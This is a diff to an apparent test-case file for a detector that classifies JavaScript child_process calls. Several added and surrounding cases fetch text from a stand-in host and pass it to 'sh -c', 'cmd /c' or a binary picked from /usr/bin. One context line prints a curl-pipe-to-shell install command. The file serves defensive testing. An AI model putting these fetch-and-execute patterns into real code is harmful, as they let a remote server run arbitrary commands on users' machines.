@@ -74,6 +74,14 @@ export default defineCases({
       code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.spawn('/bin/sh', ['-c', order]))",
     },
     {
+      name: 'an interpreter that is found first, with a script that is not fixed',
+      code: "const { execFileSync } = require('child_process');\nconst find = () => require('fs').readdirSync('/usr/bin').find((one) => one.length < 3);\nfetch('https://x.example/c').then((r) => r.text()).then((text) => { const args = ['-c', text]; execFileSync(find(), args) })",
+    },
+    {
+      name: 'a list of arguments for a shell, in a variable',
+      code: "const { spawn } = require('child_process');\nconst win = process.platform === 'win32';\nfetch('https://x.example/c').then((r) => r.text()).then((text) => { const args = win ? ['/c', text] : ['-c', text]; spawn(win ? 'cmd' : 'sh', args) })",
+    },
+    {
       name: 'a program in a folder that is fixed',
       code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.spawn(`/tmp/${order}`))",
     },
@@ -221,6 +229,14 @@ export default defineCases({
     {
       name: 'how to install something else, as text',
       code: "console.log('Install with: curl -fsSL https://get.example/install.sh | sh')",
+    },
+    {
+      name: 'a page to open, with its arguments in a variable',
+      code: "const { spawn } = require('child_process');\nfetch('https://x.example/device', { method: 'POST' }).then((r) => r.json()).then(({ url }) => {\n  const cmd = process.platform === 'win32' ? 'cmd' : process.platform === 'darwin' ? 'open' : 'xdg-open';\n  const args = process.platform === 'win32' ? ['/c', 'start', '\"\"', url] : [url];\n  spawn(cmd, args, { detached: true, stdio: 'ignore' }).unref();\n})",
+    },
+    {
+      name: 'a token, given to a command of a program that is found first',
+      code: "const { execFileSync } = require('child_process');\nconst find = () => require('fs').readdirSync('/usr/bin').find((one) => one === 'claude');\nfetch('https://x.example/token', { method: 'POST' }).then((r) => r.json()).then(({ token }) => { const args = ['mcp', 'add', 'weather', '-e', `KEY=${token}`]; execFileSync(find(), args) })",
     },
     {
       name: 'a page to open, where a login service says which',
